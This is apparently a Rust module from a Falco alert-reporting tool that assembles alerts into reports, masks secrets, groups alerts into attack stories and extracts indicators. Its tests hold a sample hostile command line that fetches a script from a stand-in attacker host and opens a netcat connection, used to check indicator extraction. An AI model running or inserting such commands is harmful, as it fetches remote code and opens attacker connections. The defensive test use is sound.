//! What a report holds, whatever it is written as: the alerts with their analyses, what people decided, and what follows
//! from all of them together.

mod indicators;

use super::mask;
use crate::analysis::{Analysis, Direction, Phase};
use crate::model::{Alert, Level, Status};
use crate::text::plural;
use crate::triage::Decision;
pub use indicators::Indicator;
use indicators::indicators;
use jiff::Timestamp;
use std::collections::{BTreeMap, BTreeSet};

/// One alert of a report.
#[derive(Clone, Debug)]
pub struct Chapter {
    pub alert: Alert,
    pub analysis: Analysis,
    /// SHA-256 of the raw record, in hexadecimal digits.
    pub sha256: String,
    /// What people decided, with who and when in words; `None` where nobody did.
    pub decision: Option<(Decision, String)>,
}

/// A whole report.
#[derive(Clone, Debug)]
pub struct Dossier {
    pub title: String,
    pub made: Timestamp,
    /// In the order of time; alerts without one come last.
    pub chapters: Vec<Chapter>,
    /// Secrets that were masked; `None` when masking is off.
    pub masked: Option<usize>,
    /// Alerts that are counted here and told nowhere else, because there are so many.
    pub rest: Rest,
}

/// Alerts without a chapter of their own.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Rest {
    pub groups: BTreeMap<(String, String), Count>,
    /// Those nobody decided about, or that are open again.
    pub open: usize,
}

/// How many alerts of one rule in one place, and when.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Count {
    pub alerts: usize,
    pub first: Option<Timestamp>,
    pub last: Option<Timestamp>,
}

impl Count {
    fn add(&mut self, alerts: usize, first: Option<Timestamp>, last: Option<Timestamp>) {
        self.alerts += alerts;
        self.first = [self.first, first].into_iter().flatten().min();
        self.last = [self.last, last].into_iter().flatten().max();
    }
}

impl Rest {
    /// Counts an alert.
    pub fn add(&mut self, alert: &Alert, is_open: bool) {
        let key = (alert.rule_name().to_owned(), place(alert));
        self.groups.entry(key).or_default().add(1, alert.time, alert.time);
        self.open += usize::from(is_open);
    }

    pub fn alerts(&self) -> usize {
        self.groups.values().map(|count| count.alerts).sum()
    }

    /// Rules and places may hold secrets as well.
    fn mask(&mut self) -> usize {
        let mut n = 0;
        for ((rule, place), count) in std::mem::take(&mut self.groups) {
            let (rule, in_rule) = mask::secrets(&rule);
            let (place, in_place) = mask::secrets(&place);
            n += in_rule + in_place;
            let key = (rule.into_owned(), place.into_owned());
            self.groups.entry(key).or_default().add(count.alerts, count.first, count.last);
        }
        n
    }
}

impl Dossier {
    /// Puts alerts in order, and masks secrets unless told not to.
    pub fn new(title: &str, made: Timestamp, chapters: Vec<Chapter>, masks: bool) -> Self {
        Self::with_rest(title, made, chapters, Rest::default(), masks)
    }

    /// Like [`Dossier::new`], with alerts that are only counted.
    pub fn with_rest(
        title: &str,
        made: Timestamp,
        mut chapters: Vec<Chapter>,
        mut rest: Rest,
        masks: bool,
    ) -> Self {
        chapters.sort_by_key(|chapter| (chapter.alert.time.is_none(), chapter.alert.time));
        let (mut title, mut masked) = (title.to_owned(), None);
        if masks {
            let (plain, in_title) = mask::secrets(&title);
            let n = chapters.iter_mut().map(Chapter::mask).sum::<usize>();
            masked = Some(n + in_title + rest.mask());
            title = plain.into_owned();
        }
        Self { title, made, chapters, masked, rest }
    }

    /// Alerts with and without a chapter.
    pub fn alerts(&self) -> usize {
        self.chapters.len() + self.rest.alerts()
    }

    /// Every rule in every place, with how often and when; the most frequent first.
    pub fn groups(&self) -> Vec<((String, String), Count)> {
        let mut all = self.rest.groups.clone();
        for Chapter { alert, .. } in &self.chapters {
            let key = (alert.rule_name().to_owned(), place(alert));
            all.entry(key).or_default().add(1, alert.time, alert.time);
        }
        let mut all: Vec<_> = all.into_iter().collect();
        all.sort_by(|a, b| b.1.alerts.cmp(&a.1.alerts).then_with(|| a.0.cmp(&b.0)));
        all
    }

    /// One sentence where alerts are counted and not told.
    pub fn shortened(&self) -> Option<String> {
        let rest = self.rest.alerts();
        (rest > 0).then(|| {
            format!(
                "Of {} alerts {} are told one by one, beginning with the first of each rule in each place; the other {} are only counted, and raise no level here.",
                crate::text::count(self.alerts() as u64),
                self.chapters.len(),
                crate::text::count(rest as u64)
            )
        })
    }

    /// The alert that is worst by its assessment; of several the first.
    pub fn worst(&self) -> Option<&Chapter> {
        self.chapters.iter().rev().max_by_key(|chapter| chapter.analysis.assessment.level)
    }

    /// First and last time.
    pub fn span(&self) -> Option<(Timestamp, Timestamp)> {
        let told = self.chapters.iter().filter_map(|chapter| chapter.alert.time);
        let counted = self.rest.groups.values().flat_map(|count| [count.first, count.last]);
        let times = || told.clone().chain(counted.clone().flatten());
        Some((times().min()?, times().max()?))
    }

    /// The places the alerts speak of, with how many each.
    pub fn places(&self) -> BTreeMap<String, usize> {
        let mut places = BTreeMap::new();
        for ((_, place), count) in self.groups() {
            *places.entry(place).or_default() += count.alerts;
        }
        places
    }

    /// Five lines for somebody who reads nothing else.
    pub fn summary(&self) -> Vec<String> {
        let Some(worst) = self.worst() else {
            return vec!["There is no alert to report.".to_owned()];
        };
        let rules: BTreeSet<_> = self.groups().into_iter().map(|((rule, _), _)| rule).collect();
        let n = |count: usize, one, many| plural(count as u64, one, many);
        let when = match self.span() {
            Some((first, last)) if first != last => format!(" between {first:.0} and {last:.0}"),
            Some((first, _)) => format!(" at {first:.0}"),
            None => String::new(),
        };
        let what = format!(
            "{} of {} in {}{when}.",
            n(self.alerts(), "alert", "alerts"),
            n(rules.len(), "rule", "rules"),
            n(self.places().len(), "place", "places"),
        );
        let level = worst.analysis.assessment.level.name();
        let reason = worst
            .analysis
            .assessment
            .reasons
            .iter()
            .find(|reason| reason.direction == Direction::Up);
        let why = reason.map_or_else(String::new, |reason| {
            format!(" Strongest sign: {} ({}).", reason.says.trim_end_matches('.'), reason.field)
        });
        let headline = worst.analysis.headline.trim_end_matches('.');
        let worst_line = format!("Worst: {level}. {headline}.{why}");
        let story = self.story().unwrap_or_else(|| {
            "The alerts show no chain of several tactics in one place.".to_owned()
        });
        let is_open = |chapter: &&Chapter| chapter.is_open();
        let open = self.chapters.iter().filter(is_open).count() + self.rest.open;
        let is_bad = |chapter: &&Chapter| chapter.analysis.assessment.level >= Level::High;
        let urgent = self.chapters.iter().filter(is_open).filter(is_bad).count();
        let decided = format!(
            "{} decided about, {open} open, of these {urgent} high or critical.",
            self.alerts() - open
        );
        // A folder and a list of sums are made on the way to something; they are no advice of their own.
        let is_worth_saying = |step: &&crate::analysis::Step| {
            step.command.is_some()
                && !matches!(step.phase, Phase::Harden | Phase::Tune)
                && !["case-dir", "hash-evidence"].contains(&step.id.as_str())
        };
        let next = worst.analysis.steps.iter().find(is_worth_saying).map_or_else(
            || {
                "Next: nothing can be done with what the alert holds; see what is missing."
                    .to_owned()
            },
            |step| format!("Next: {} ({}).", step.title, step.risk.name()),
        );
        vec![what, worst_line, story, decided, next]
    }

    /// Several alerts of one place told as one story: the tactics in the order in which they were first seen.
    pub fn story(&self) -> Option<String> {
        let told: Vec<_> = self.stories().iter().map(Story::says).collect();
        (!told.is_empty()).then(|| told.join(" "))
    }

    /// The places in which alerts show three tactics or more, each with its alerts in order.
    pub fn stories(&self) -> Vec<Story<'_>> {
        let mut places: BTreeMap<String, Vec<(usize, &Chapter)>> = BTreeMap::new();
        for (number, chapter) in (1..).zip(&self.chapters) {
            if chapter.analysis.assessment.known.is_none() && chapter.alert.time.is_some() {
                places.entry(place(&chapter.alert)).or_default().push((number, chapter));
            }
        }
        // That nobody knows where two things happened does not make them one story.
        let is_known = |place: &str| !place.starts_with(UNKNOWN);
        places
            .into_iter()
            .filter(|(place, _)| is_known(place))
            .filter_map(|(place, chapters)| told(place, chapters))
            .collect()
    }

    /// What each chapter says in short. What a story tells once for all its alerts is not told again with each.
    pub fn summaries(&self) -> Vec<String> {
        let stories = self.stories();
        let told: BTreeSet<usize> =
            stories.iter().flat_map(|story| &story.beats).map(|beat| beat.number).collect();
        (1..)
            .zip(&self.chapters)
            .map(|(number, chapter)| {
                let Analysis { summary, story, .. } = &chapter.analysis;
                match story {
                    Some(story) if told.contains(&number) => {
                        summary.replacen(&format!(" {story}"), "", 1)
                    }
                    _ => summary.clone(),
                }
            })
            .collect()
    }

    /// Addresses, names, images and paths, each once.
    pub fn indicators(&self) -> Vec<Indicator> {
        let mut all: Vec<_> =
            self.chapters.iter().flat_map(|chapter| indicators(&chapter.alert)).collect();
        all.sort();
        all.dedup_by(|a, b| a.kind == b.kind && a.value == b.value);
        all
    }

    /// Techniques, each once, with the number of alerts.
    pub fn techniques(&self) -> Vec<(&crate::analysis::Attack, usize)> {
        let mut all: BTreeMap<&str, (&crate::analysis::Attack, usize)> = BTreeMap::new();
        for attack in self.chapters.iter().flat_map(|chapter| &chapter.analysis.attack) {
            all.entry(&attack.technique).or_insert((attack, 0)).1 += 1;
        }
        all.into_values().collect()
    }

    /// What is not known, each once.
    pub fn unknown(&self) -> Vec<&crate::analysis::Missing> {
        let mut all: Vec<&crate::analysis::Missing> = Vec::new();
        for missing in self.chapters.iter().flat_map(|chapter| &chapter.analysis.missing) {
            if !all.iter().any(|known| known.field == missing.field && known.find == missing.find) {
                all.push(missing);
            }
        }
        all
    }
}

/// Where an alert fired, in a few words.
pub fn place(alert: &Alert) -> String {
    if let Some(log) = log_of(alert) {
        // What two people did in one account or cluster is not one story.
        let actor = ACTORS.into_iter().find_map(|field| alert.fields.text(field));
        return actor.map_or_else(|| log.clone(), |actor| format!("{log} ({actor})"));
    }
    let container = alert.container();
    let (namespace, pod) = alert.k8s();
    if let (Some(namespace), Some(pod)) = (namespace, pod) {
        return format!("pod {namespace}/{pod}");
    }
    match (container.name, container.id) {
        (_, Some("host")) => alert
            .hostname
            .as_deref()
            .map_or_else(|| "the host".to_owned(), |name| format!("host {name}")),
        (Some(name), Some(id)) if !name.is_empty() && !id.is_empty() => {
            format!("container {name} ({id})")
        }
        (Some(name), _) if !name.is_empty() => format!("container {name}"),
        (_, Some(id)) if !id.is_empty() => format!("container {id}"),
        _ => alert
            .hostname
            .as_deref()
            .map_or_else(|| UNKNOWN.to_owned(), |name| format!("{UNKNOWN} on {name}")),
    }
}

/// What the name of every place begins with that the alert does not tell.
const UNKNOWN: &str = "an unknown place";

/// Who acted, in the logs that know people and no processes.
const ACTORS: [&str; 6] = [
    "ka.user.name",
    "ct.user",
    "okta.actor.alternateid",
    "okta.actor.name",
    "github.user",
    "gcp.user",
];

/// The log that an alert was raised from, where it is not the kernel's events.
fn log_of(alert: &Alert) -> Option<String> {
    let source = alert.event_source.as_deref().filter(|source| !source.is_empty())?;
    let logs = [
        ("k8s_audit", "the cluster's audit log"),
        ("k8saudit", "the cluster's audit log"),
        ("aws_cloudtrail", "AWS"),
        ("okta", "Okta"),
        ("github", "GitHub"),
        ("gcp", "Google Cloud"),
        ("internal", "Falco itself"),
    ];
    if source == "syscall" || alert.container().id.is_some() {
        return None;
    }
    let known = logs.into_iter().find(|(start, _)| source.starts_with(start));
    Some(known.map_or_else(|| format!("the log of {source}"), |(_, name)| name.to_owned()))
}

fn told(place: String, chapters: Vec<(usize, &Chapter)>) -> Option<Story<'_>> {
    let mut tactics: Vec<String> = Vec::new();
    for attack in chapters.iter().flat_map(|(_, chapter)| &chapter.analysis.attack) {
        let tactic = attack.tactic.replace('-', " ");
        if !tactics.contains(&tactic) {
            tactics.push(tactic);
        }
    }
    let first = chapters.first()?.1.alert.time?;
    let last = chapters.last()?.1.alert.time?;
    let seconds = last.as_second().saturating_sub(first.as_second());
    let beats = chapters.into_iter().map(|(number, chapter)| Beat {
        number,
        after: chapter.alert.time.map_or(0, |at| at.as_second() - first.as_second()),
        chapter,
    });
    (tactics.len() >= 3).then(|| Story { place, seconds, tactics, beats: beats.collect() })
}

/// The alerts of one place that go together.
#[derive(Clone, Debug)]
pub struct Story<'a> {
    pub place: String,
    /// From the first alert to the last.
    pub seconds: i64,
    /// In the order in which they were first seen.
    pub tactics: Vec<String>,
    pub beats: Vec<Beat<'a>>,
}

/// One alert of a story.
#[derive(Clone, Copy, Debug)]
pub struct Beat<'a> {
    /// The chapter's number, from 1.
    pub number: usize,
    /// Seconds since the story's first alert.
    pub after: i64,
    pub chapter: &'a Chapter,
}

impl Story<'_> {
    /// The story in one sentence.
    pub fn says(&self) -> String {
        let is_host = self.place.starts_with("host ") || self.place == "the host";
        format!(
            "{} {}, within {}: {}.",
            if is_host { "On" } else { "In" },
            self.place,
            spell(self.seconds),
            self.tactics.join(", then ")
        )
    }
}

impl Chapter {
    /// Nobody decided, or what was decided leaves it open.
    pub fn is_open(&self) -> bool {
        self.decision.as_ref().is_none_or(|(decision, _)| decision.status == Status::Open)
    }

    /// What was decided and by whom, in words.
    pub fn decided(&self) -> Option<String> {
        let (decision, by) = self.decision.as_ref()?;
        let words = Decision::difference(&Decision::default(), decision);
        Some(format!("{words}, {by}"))
    }

    fn mask(&mut self) -> usize {
        let mut notes: Vec<&mut String> = Vec::new();
        if let Some((Decision { reason, note, assignee, tags, .. }, by)) = &mut self.decision {
            notes.extend([reason, note, assignee].into_iter().flatten());
            notes.extend(tags);
            notes.push(by);
        }
        mask::all(&mut self.alert, Some(&mut self.analysis), &mut notes)
    }
}

fn spell(seconds: i64) -> String {
    match seconds {
        ..120 => plural(seconds.unsigned_abs(), "second", "seconds"),
        120..7200 => plural((seconds / 60).unsigned_abs(), "minute", "minutes"),
        _ => plural((seconds / 3600).unsigned_abs(), "hour", "hours"),
    }
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;
    use crate::analysis::{Assessment, Match, Missing, PlaybookRef, Reason, Risk, Step};
    use crate::model::Value;

    /// A chapter in which everything that an alert can say is `hostile`.
    pub fn chapter(hostile: &str) -> Chapter {
        let mut alert = alert(&[
            ("proc.cmdline", hostile),
            ("fd.name", hostile),
            ("container.id", hostile),
            ("container.name", hostile),
            (hostile, hostile),
        ]);
        alert.rule = Some(hostile.into());
        alert.hostname = Some(hostile.into());
        alert.output = Some(hostile.into());
        alert.time = Some("2026-11-21T09:00:00.5Z".parse().unwrap());
        alert.origin.source = hostile.into();
        let text = || hostile.to_owned();
        let analysis = Analysis {
            playbook: PlaybookRef { id: text(), found_by: Match::Rule },
            headline: text(),
            summary: text(),
            story: None,
            proves: vec![text()],
            not_proven: vec![text()],
            facts: Vec::new(),
            assessment: Assessment {
                level: Level::High,
                falco_priority: None,
                known: None,
                reasons: vec![Reason { field: text(), says: text(), direction: Direction::Up }],
            },
            causes: Vec::new(),
            missing: vec![Missing { field: text(), why: text(), find: text() }],
            attack: Vec::new(),
            steps: vec![Step {
                phase: Phase::Verify,
                id: "x".into(),
                title: text(),
                why: text(),
                command: Some("docker pause 0123456789ab".into()),
                variant: "docker".into(),
                others: Vec::new(),
                risk: Risk::ReadOnly,
                undo: None,
                privilege: "root".into(),
                needs: Vec::new(),
                unavailable: None,
                note: None,
            }],
            related: Vec::new(),
            tuning: Some(text()),
            references: Vec::new(),
        };
        Chapter {
            alert,
            analysis,
            sha256: text(),
            decision: Some((Decision { note: Some(text()), ..Decision::default() }, text())),
        }
    }

    #[test]
    fn the_summary_has_five_lines_and_masks_secrets() {
        let made = "2026-11-21T10:00:00Z".parse().unwrap();
        let dossier = Dossier::new("Case", made, vec![chapter("app --password=hunter2")], true);
        assert_eq!(dossier.summary().len(), 5);
        assert!(dossier.masked > Some(0));
        let alert = &dossier.chapters[0].alert;
        assert!(!alert.fields.text("proc.cmdline").unwrap().contains("hunter2"));
        assert!(!alert.output.as_deref().unwrap().contains("hunter2"));
        assert!(!dossier.chapters[0].analysis.headline.contains("hunter2"));
    }

    fn alert(fields: &[(&str, &str)]) -> Alert {
        let mut alert = Alert::default();
        for (key, value) in fields {
            alert.fields.set(key, Value::String((*value).into()));
        }
        alert
    }

    #[test]
    fn what_others_can_look_for_is_listed() {
        let alert = alert(&[
            ("fd.name", "10.0.0.5:41000->198.51.100.7:4444"),
            (
                "proc.cmdline",
                "sh -c curl -o /tmp/a.sh http://evil.example.org:8080/a.sh && nc 203.0.113.9 1",
            ),
            ("container.image.repository", "docker.io/library/nginx"),
            ("container.id", "0123456789ab"),
        ]);
        let found: Vec<_> = indicators(&alert).into_iter().map(|i| (i.kind, i.value)).collect();
        for expected in [
            ("address", "198.51.100.7"),
            ("address", "203.0.113.9"),
            ("host name", "evil.example.org"),
            ("image", "docker.io/library/nginx"),
            ("container", "0123456789ab"),
        ] {
            assert!(
                found.contains(&(expected.0, expected.1.to_owned())),
                "{found:?} lacks {expected:?}"
            );
        }
        assert!(!found.iter().any(|(_, value)| value == "a.sh"));
    }

    #[test]
    fn a_place_is_named_as_people_do() {
        assert_eq!(place(&alert(&[("container.id", "host")])), "the host");
        assert_eq!(
            place(&alert(&[("container.id", "0123456789ab"), ("container.name", "web")])),
            "container web (0123456789ab)"
        );
        assert_eq!(
            place(&alert(&[("k8s.ns.name", "prod"), ("k8s.pod.name", "web-0")])),
            "pod prod/web-0"
        );
        assert_eq!(place(&alert(&[("container.id", "")])), "an unknown place");
        let from = |source: &str, fields: &[(&str, &str)]| {
            let mut alert = alert(fields);
            alert.event_source = Some(source.into());
            alert.hostname = Some("node-1".into());
            place(&alert)
        };
        assert_eq!(from("aws_cloudtrail", &[("ct.user", "ana")]), "AWS (ana)");
        assert_eq!(from("k8s_audit", &[]), "the cluster's audit log");
        assert_eq!(from("syscall", &[]), "an unknown place on node-1");
        assert_eq!(from("syscall", &[("container.id", "host")]), "host node-1");
    }
}
